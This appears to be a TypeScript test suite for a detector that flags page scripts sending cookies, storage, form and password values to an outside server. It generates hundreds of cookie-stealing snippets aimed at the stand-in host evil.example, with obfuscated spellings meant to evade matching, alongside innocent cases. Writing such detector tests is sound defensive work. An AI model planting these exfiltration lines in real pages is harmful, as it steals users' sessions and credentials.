/** The data that scripts send, as far as their tokens show it: sources, sinks and ways to spell them. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { type Sending, scriptOfUrl, sendingIn } from '../../../src/payload/script-sends.ts';
import { atOnce } from '../../../src/turns.ts';

/** Sent by a page's own script. */
const sentBy = (text: string, isHandler = false): Sending | null =>
  atOnce(sendingIn([{ text, isHandler }], ''));
const server = 'https://evil.example';

/** The data of a page, by its name, in all ways to write it. */
const sources: Record<string, readonly string[]> = {
  'document.cookie': [
    'document.cookie',
    'document["cookie"]',
    "window['document']?.cookie",
    'self.document?.["cookie"]',
    "document['coo'+'kie']",
    'document[`coo$' + '{"kie"}`]',
    "document['\\x63ookie']",
    "document['\\143ookie']",
    "document['coo\\\nkie']",
    'document.c\\u006fokie',
    'd\\u{6f}cument.cookie',
    '(document).cookie',
    '(0,document).cookie',
    'document /* a */ . // b\n cookie',
    'parent.document.cookie',
    'frames[0].contentWindow.document.cookie',
    'this.document.cookie',
    "document[atob('Y29va2ll')]",
    "document[decodeURIComponent('%63ookie')]",
    "document.cookie.split(';')[0]",
    'encodeURIComponent(document.cookie)',
    'btoa(JSON.stringify([document.cookie]))',
  ],
  localStorage: ['localStorage.a', "localStorage.getItem('a')", 'JSON.stringify(window.localStorage)'],
  sessionStorage: ["sessionStorage['a']", '{...sessionStorage}.a'],
  'document.forms.0.pin.value': ['document.forms[0].pin.value', "document['forms']['0'].pin.value"],
  'document.querySelector().value': ["document.querySelector('[type=password]').value"],
  'document.getElementById().value': ['document.getElementById("p")?.value'],
  'document.documentElement.outerHTML': ['document.documentElement.outerHTML'],
  'document.body.textContent': ['document.body.textContent'],
  'top.location': ['top.location', 'top.location.href'],
  'this.value': ['this.value'],
  FormData: ['new FormData(document.forms[0])', 'new URLSearchParams(new FormData(f))'],
};

/** Requests with some data in them, by the function that sends them. */
const sinks: Record<string, readonly ((what: string) => string)[]> = {
  location: [
    (what) => `location="${server}/"+${what}`,
    (what) => `window.location='${server}/'+${what}`,
    (what) => `self['location']=\`${server}/?\${${what}}\``,
    (what) => `document.location='${server}/'.concat(${what})`,
    (what) => `location=a?"${server}/"+${what}:b`,
    (what) => `(()=>{location="${server}/"+${what}})()`,
    (what) => `if(a)/\`/.test(b);location="${server}/"+${what}`,
    (what) => `a++/1;location="${server}/"+${what};//`,
    (what) => `//\rlocation="${server}/"+${what}`,
    (what) => `let u="${server}/?";u+=${what};location=u`,
    (what) => `location=['${server}/',${what}].join('')`,
    (what) => `eval('location="${server}/?"+c');var c=${what};eval('location="${server}/?"+c')`,
  ],
  'location.href': [
    (what) => `location.href='${server}/'+${what}`,
    (what) => `const l=location\nl.href='${server}/'+${what}`,
  ],
  'top.location': [(what) => `top.location='${server}/'+${what}`],
  'location.assign': [(what) => `location.assign('${server}/'+${what})`],
  'location.replace': [(what) => `location?.replace?.('${server}/'+(${what}))`],
  open: [(what) => `window.open('${server}/'+${what})`],
  fetch: [
    (what) => `fetch('${server}/'+${what})`,
    (what) => `fetch("${server}/",{method:'POST',body:${what}})`,
    (what) => `(0,fetch)('${server}/?'+${what})`,
    (what) => `fetch(new Request('${server}/',{body:${what}}))`,
    (what) => `const v=${what};fetch('${server}/?'+v)`,
    (what) => `const f=new FormData();f.append('a',${what});fetch('${server}/',{body:f})`,
    (what) => `[${what}].forEach(a=>fetch('${server}/?'+a))`,
    (what) => `for(const a of [${what}])fetch('${server}/?'+a)`,
    (what) => `setTimeout("fetch('${server}/?'+a)");a=${what}`,
  ],
  'navigator.sendBeacon': [(what) => `navigator.sendBeacon('${server}/',${what})`],
  'XMLHttpRequest.open': [(what) => `var x=new XMLHttpRequest;x.open('GET','${server}/?'+${what})`],
  'x.send': [(what) => `var x=new XMLHttpRequest();x.open('POST','${server}/');x.send(${what})`],
  WebSocket: [(what) => `new WebSocket('${server}/'+${what})`],
  'w.send': [(what) => `const w=new WebSocket('${server}/');w.onopen=()=>w.send(${what})`],
  EventSource: [(what) => `new EventSource('${server}/'+${what})`],
  import: [(what) => `import('${server}/'+${what})`],
  'Image().src': [(what) => `new Image().src='${server}/'+${what}`],
  'Image.src': [(what) => `const i=new Image;i.src='${server}/'+${what}`],
  'createElement().href': [
    (what) => `var a=document.createElement('a');a.href='${server}/'+${what};a.click()`,
  ],
  src: [(what) => `a.setAttribute('src','${server}/'+${what})`],
  'document.write': [(what) => `document.write('<img src="${server}/?'+${what}+'">')`],
  'body.innerHTML': [(what) => `document.body.innerHTML='<img src=${server}/?'+${what}`],
  'style.backgroundImage': [(what) => `a.style.backgroundImage='url(${server}/?'+${what}+')'`],
  postMessage: [(what) => `parent.postMessage(${what},'${server}')`],
  '$.post': [(what) => `$.post('${server}/',${what})`],
};

test('every source in every request', () => {
  let count = 0;
  for (const [source, spellings] of Object.entries(sources)) {
    for (const what of spellings) {
      for (const [by, makers] of Object.entries(sinks)) {
        for (const make of makers) {
          // A statement in a string has no nested strings.
          const text = make(what);
          const sent = sentBy(text);
          count++;
          if (/^(?:setTimeout|eval)/.test(text)) assert.equal(sent?.source, source, text);
          else assert.deepEqual(sent, sentAs(source, by), text);
        }
      }
    }
  }
  assert.ok(count > 1000, `${count}`);
});

const sentAs = (source: string, by: string): Sending => ({ source, by, to: server, isDirect: true });

/** The tokens of the example, and the text that may be between them. */
const tokens = ['location', '=', '"https://evil.example/"', '+', 'document', '.', 'cookie'];
const gap = fc.constantFrom(
  '',
  ' ',
  '\t',
  '\u00a0',
  '\u2028',
  '\ufeff',
  '/* "a */',
  '//`\n',
  "//'\r",
  '<!-- (\n',
);
const letter = fc.nat();
const escaped = (name: string, at: number): string => {
  const index = at % name.length;
  return `${name.slice(0, index)}\\u{${name.charCodeAt(index).toString(16)}}${name.slice(index + 1)}`;
};

test('whatever stands between, and however names are escaped', () => {
  fc.assert(
    fc.property(
      fc.array(gap, { minLength: 8, maxLength: 8 }),
      fc.array(fc.option(letter), { minLength: 7, maxLength: 7 }),
      (gaps, escapes) => {
        const written = tokens.map((token, index) => {
          const at = escapes[index] ?? null;
          return at === null || !/^\w/.test(token) ? token : escaped(token, at);
        });
        const text = gaps.map((each, index) => each + (written[index] ?? '')).join('');
        assert.deepEqual(sentBy(text), sentAs('document.cookie', 'location'), text);
      },
    ),
  );
});

test('nothing is thrown, and nothing found in strings and comments', () => {
  const piece = fc.constantFrom(
    ...[
      'document.cookie',
      'location=',
      '"https://e/"+',
      'fetch(',
      ')',
      '(',
      '[',
      ']',
      '{',
      '}',
      '`',
      '${',
      '"',
      "'",
    ],
    ...[
      '\\',
      '//',
      '/*',
      '*/',
      '\n',
      '=>',
      '?.',
      '...',
      '+=',
      ';',
      ',',
      'var a',
      'a',
      'eval(',
      'atob(',
      '\\u{110000}',
      'new ',
    ],
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
      const text = pieces.join('');
      sentBy(text);
      assert.equal(sentBy(JSON.stringify(text)), null);
      assert.equal(sentBy(`/*${text.replaceAll('*/', '')}*/`), null);
    }),
  );
});

test('a handler has the members of its document', () => {
  assert.equal(sentBy(`location='${server}/'+cookie`), null);
  assert.deepEqual(sentBy(`location='${server}/'+cookie`, true), sentAs('document.cookie', 'location'));
  assert.deepEqual(
    sentBy(`with(document)location='${server}/'+cookie`),
    sentAs('document.cookie', 'location'),
  );
});

test('names are shared by the scripts of a document', () => {
  const texts = ['var a=document.cookie', `fetch('${server}/?'+a)`];
  const sent = atOnce(
    sendingIn(
      texts.map((text) => ({ text, isHandler: false })),
      null,
    ),
  );
  assert.deepEqual(sent, sentAs('document.cookie', 'fetch'));
});

test('a form that is led elsewhere', () => {
  assert.deepEqual(sentBy(`document.forms[0].action='${server}/'`), sentAs('document.forms.0', '0.action'));
});

test('what is a degree less certain', () => {
  const common = { source: 'document.cookie', by: 'fetch' };
  assert.deepEqual(sentBy('fetch(u+document.cookie)'), { ...common, to: null, isDirect: true });
  for (const text of [
    `function f(a){fetch('${server}/?'+a)}f(document.cookie)`,
    `a(document.cookie,b=>fetch('${server}/?'+b))`,
    `var o={};o.a=document.cookie;fetch('${server}/',{body:JSON.stringify(o)})`,
  ])
    assert.equal(sentBy(text)?.isDirect, false, text);
});

test('where an address leads', () => {
  const servers = (base: string | null, address: string) =>
    atOnce(sendingIn([{ text: `fetch(${address}+document.cookie)`, isHandler: false }], base))?.to;
  assert.equal(servers(null, "'https://user:secret@evil.example:8/a'"), 'https://evil.example:8');
  assert.equal(servers(null, "'https:evil.example/'"), 'https:evil.example');
  assert.equal(servers(null, "' ht\\ttps://evil.example/?'"), 'https://evil.example');
  assert.equal(servers(null, "'https://evil.'"), 'https://evil.…');
  assert.equal(servers('', "'//evil.example/'"), '//evil.example');
  // A data: URL cannot be a base.
  assert.equal(servers(null, "'//evil.example/'"), undefined);
  assert.equal(servers('', "'/a?'"), undefined);
  assert.equal(servers('https://evil.example/a', "'/a?'"), 'https://evil.example');
});

test('a javascript: URL', () => {
  const { text } = atOnce(scriptOfUrl(' java\nscript:a%3Db%\n3Dc'));
  assert.equal(text, 'a=b=c');
  const long = `javascript:${'%61'.repeat(100_000)}`;
  assert.equal(atOnce(scriptOfUrl(long)).text, 'a'.repeat(100_000));
});

test('innocent', () => {
  for (const text of [
    'document.cookie',
    'var c=document.cookie;console.log(c)',
    `fetch('${server}/')`,
    `location='${server}/'`,
    `document.cookie='a=${server}/'`,
    `document.title='${server}/'+document.cookie`,
    `localStorage.setItem('a','${server}/');fetch('${server}/')`,
    `localStorage.a=1;fetch('${server}/')`,
    "fetch('/a',{headers:{a:document.cookie}})",
    `if(document.cookie.indexOf('${server}/')<0)a()`,
    `fetch('${server}/?'+input.value)`,
    'location=location.href',
    `node.location='${server}/'+document.cookie`,
    `fetch('${server}/?'+this.a.node.value)`,
    `location='#'+document.cookie`,
    `<!-- location="${server}/"+document.cookie`,
    `/location="https:\\/\\/e\\/"+document.cookie/`,
    `\`location="${server}/"+document.cookie\``,
    `a={"location":"${server}/"};b.cookie`,
    `var c=document.cookie;c='';fetch('${server}/?'+d)`.replace('document.cookie', 'document.title'),
    `if(top!=self)top.location='${server}/'`,
    `var e=document.createElement('p');e.innerHTML='a';fetch('${server}/?'+e.innerHTML)`,
  ])
    assert.equal(sentBy(text), null, text);
});
